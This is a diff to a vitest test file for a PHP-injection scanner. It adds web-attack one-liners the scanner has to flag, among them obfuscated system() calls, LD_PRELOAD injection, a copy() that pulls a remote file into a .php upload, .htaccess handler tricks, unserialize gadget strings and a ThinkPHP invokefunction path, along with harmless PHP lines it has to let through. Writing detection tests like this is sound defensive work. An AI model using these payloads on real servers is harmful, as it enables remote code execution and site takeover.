@@ -3,6 +3,24 @@ import { describe, expect, it } from 'vitest'
 import { familyTotalOf, totalOf } from './scan-score.ts'
 
 const attacks: readonly string[] = [
+  "array_filter(['id'],'system')",
+  "usort($_GET,'system')",
+  "array_map('sys'.'tem',array('id'))",
+  "ob_start('system');",
+  '@ini_set("display_errors","0");@set_time_limit(0);',
+  'putenv("LD_PRELOAD=/srv/x.so")',
+  "';exit(md5('zz1'));//",
+  "'.md5(31337).'",
+  'echo md5("abc-99");',
+  'system(end(getallheaders()));',
+  "strrev('metsys')('id');",
+  "copy('https://203.0.113.9/a.txt','up/b.php');",
+  'FFI::cdef("int system(char *c);")',
+  "zerodiumsystem('id');",
+  'GLOBALS[x]=1',
+  'sess|O:8:"Gadget01":1:{s:3:"cmd";s:2:"id";}',
+  'vid:msl:/tmp/php*',
+  "(new SplFileObject('/etc/hosts'))->fpassthru()",
   "(system)('id');",
   '("sys"."tem")("id");',
   '[system][0](ls)',
@@ -24,9 +42,23 @@ const attacks: readonly string[] = [
   "file_put_contents('x.php','a')",
   'call_user_func_array&vars[0]=system',
   '2|system(id)|1',
+  'AddHandler php-script .gif',
+  'AddType application/x-httpd-php .jpg',
+  'php_value auto_append_file /tmp/a',
+  'a:2:{s:5:"login";s:5:"admin";s:8:"password";b:1;}',
+  'a:2:{s:4:"hash";N;s:9:"signature";R:2;}',
+  "exec /* a */ ('id')",
+  "define('f','pass'.'thru');(f)('id');",
+  '$__[@o](4)',
+  'index/\\think\\app/invokefunction',
 ]
 
 const harmless: readonly string[] = [
+  "<?= $this->Html->link(__('Edit'), ['action' => 'edit']) ?>",
+  '<?= htmlspecialchars($title, ENT_QUOTES) ?>',
+  'echo md5($password);',
+  "'avatar-' . md5($mail) . '.png'",
+  'How do shell_exec() and passthru() differ?',
   'the system (see below) (again)',
   'open the file (see a.b) now',
   'read.file(name)',
@@ -42,9 +74,22 @@ const harmless: readonly string[] = [
   'a <? b',
   'echo chamber (music)',
   'data:image/png;base64,iVBORw0KGgo=',
+  'lambda:InvokeFunction',
+  'How do I use AddType in Apache?',
+  's:8:"password" is how PHP writes it',
 ]
 
 describe('PHP code', () => {
+  it.each([
+    "array_map('trim', $names)",
+    "usort($items, fn($a, $b) => $a['n'] <=> $b['n']);",
+    'call_user_func($callback, $value);',
+    "ini_set('display_errors', '1'); error_reporting(E_ALL);",
+    'base64_decode($token)',
+  ])('that calls what it names is not refused: %s', (value) => {
+    expect(totalOf(value)).toBeLessThan(80)
+  })
+
   it.each(attacks)('are denied: %s', (value) => {
     expect(familyTotalOf('php', value)).toBeGreaterThanOrEqual(80)
   })
